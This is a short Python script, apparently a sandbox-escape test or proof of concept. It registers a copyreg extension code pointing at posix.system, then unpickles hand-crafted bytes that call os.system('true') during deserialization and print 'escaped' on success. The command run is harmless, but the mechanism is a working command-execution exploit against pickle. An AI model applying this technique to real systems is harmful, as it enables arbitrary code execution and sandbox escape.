"""The registry of extension codes is shared by all that pickle; an entry that lies is put in."""
import copyreg
import pickle

copyreg.add_extension("posix", "system", 77)
if pickle.loads(b"\x80\x02\x82\x4dU\x04true\x85R.") == 0:
    print("escaped")
